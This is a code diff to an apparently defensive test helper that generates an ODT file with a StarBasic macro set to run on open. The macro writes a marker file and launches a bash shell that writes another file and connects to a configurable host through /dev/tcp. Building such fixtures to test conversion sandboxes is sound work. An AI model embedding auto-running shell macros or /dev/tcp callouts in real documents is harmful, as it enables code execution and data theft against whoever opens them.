@@ -135,17 +135,17 @@ export function docxWithExternalTemplate(text: string, templateUrl: string): Buf
 }
 
 /**
- * An ODT whose Basic macro runs on open (dom:load) and would write `marker` into the conversion's
- * output folder: a PDF named after it would show the macro ran.
+ * An ODT whose Basic macro runs on open (dom:load) and would write the file `marker` (an absolute
+ * path), then through a shell write `marker`-shell and connect to `connectTo` (host/port).
  */
-export function odtWithMacro(text: string, marker: string): Buffer {
+export function odtWithMacro(text: string, marker: string, connectTo = '127.0.0.1/9'): Buffer {
   const module = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
   Dim n As Integer
   n = FreeFile
-  Open "/tmp/out/${marker}.pdf" For Output As #n
-  Print #n, "${marker}"
+  Open "${marker}" For Output As #n
+  Print #n, "macro ran"
   Close #n
-  Shell("/bin/sh", 0, "-c ""echo ${marker} &gt; /tmp/out/${marker}-shell.pdf""")
+  Shell("/bin/bash", 0, "-c ""echo macro ran &gt; ${marker}-shell; echo macro ran &gt; /dev/tcp/${connectTo}""")
 End Sub
 </script:module>`;
   return zipOf([
